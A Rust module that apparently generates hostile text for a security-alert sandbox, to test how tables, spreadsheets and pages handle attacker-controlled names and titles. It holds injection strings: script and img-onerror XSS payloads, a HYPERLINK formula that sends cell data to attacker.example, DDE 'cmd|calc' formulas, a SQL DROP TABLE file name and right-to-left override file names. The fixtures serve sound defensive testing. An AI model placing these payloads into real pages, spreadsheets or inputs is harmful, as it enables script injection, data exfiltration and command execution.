//! Text that an attacker can put into an alert, and that owners can give to devices.
//!
//! File names, command lines and titles of custom rules are written by strangers. A few rows carry text that
//! breaks careless tables, spreadsheets and pages, so that every reader of the sandbox's data meets it.

use super::machines::Platform;

/// One of the kinds of hostile text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Hostile {
    /// Markup in a file name.
    Markup,
    /// A title that a spreadsheet would run as a formula.
    Formula,
    /// A file name whose extension is turned around by a right-to-left override.
    RightToLeft,
    /// A command line of eight thousand characters.
    LongCommand,
    /// Control characters and line breaks in a command line.
    ControlCharacters,
    /// Characters outside of the basic plane and combining marks in a title.
    WideCharacters,
    /// A title that closes an attribute and an element.
    Breakout,
    /// A formula that starts with a tab, in a command line, and an `@` title.
    TabFormula,
}

const ALL: [Hostile; 8] = [
    Hostile::Markup,
    Hostile::Formula,
    Hostile::RightToLeft,
    Hostile::LongCommand,
    Hostile::ControlCharacters,
    Hostile::WideCharacters,
    Hostile::Breakout,
    Hostile::TabFormula,
];

impl Hostile {
    /// Kind number `number`, round and round.
    pub(crate) fn number(number: u32) -> Self {
        usize::try_from(number)
            .ok()
            .and_then(|number| ALL.get(number % ALL.len()))
            .copied()
            .unwrap_or(Self::Markup)
    }

    /// Title to show instead of the detection's own.
    pub(crate) fn title(self) -> Option<String> {
        let title = match self {
            Self::Formula => "=HYPERLINK(\"https://attacker.example/?x=\"&A1,\"Open report\")",
            Self::WideCharacters => {
                "Custom rule: \u{1f9ea} caf\u{65}\u{301} \u{202e}gnihsihp\u{202c} \u{2068}test\u{2069}"
            }
            Self::Breakout => "\"></td></tr><script>alert(document.domain)</script>",
            Self::TabFormula => "@SUM(1+1)*cmd|' /C calc'!A0",
            _ => return None,
        };
        Some(title.to_owned())
    }

    /// File name to show instead of the detection's own.
    pub(crate) fn file_name(self) -> Option<String> {
        let name = match self {
            Self::Markup => "<img src=x onerror=alert(1)>.docx",
            Self::RightToLeft => "invoice_\u{202e}fdp.exe",
            Self::Breakout => "'; DROP TABLE alerts; --.xlsx",
            _ => return None,
        };
        Some(name.to_owned())
    }

    /// Command line to show instead of the detection's own.
    pub(crate) fn command_line(self) -> Option<String> {
        match self {
            Self::LongCommand => Some(format!(
                "powershell.exe -EncodedCommand {}",
                "QQBCAEMA".repeat(1000)
            )),
            Self::ControlCharacters => {
                Some("cmd.exe /c echo \u{1b}[31mred\u{1b}[0m\r\nsecond line\u{7}\u{0}\ttab".to_owned())
            }
            Self::TabFormula => Some("\t=cmd|' /C calc'!A0".to_owned()),
            Self::Markup => Some("cmd.exe /c start \"\" \"<img src=x onerror=alert(1)>.docx\"".to_owned()),
            _ => None,
        }
    }
}

/// Names that owners gave to phones and, now and then, to a Mac; managed computers are named by a rule.
pub(crate) fn device_name(platform: Platform, index: u32) -> Option<&'static str> {
    let chosen = match platform {
        Platform::Mobile => true,
        Platform::MacOs => index.is_multiple_of(4),
        _ => false,
    };
    chosen.then_some(match index % 4 {
        0 => "Mira\u{2019}s <b>Mac</b> \u{1f34e}",
        1 => "=cmd|' /C calc'!A0",
        2 => "iPhone \u{202e}enohpi",
        _ => "\"><script>alert(1)</script>",
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_changes_something() {
        for number in 0..8 {
            let kind = Hostile::number(number);
            assert!(
                kind.title().is_some() || kind.file_name().is_some() || kind.command_line().is_some(),
                "{kind:?}"
            );
        }
        assert_eq!(Hostile::number(8), Hostile::Markup);
    }
}
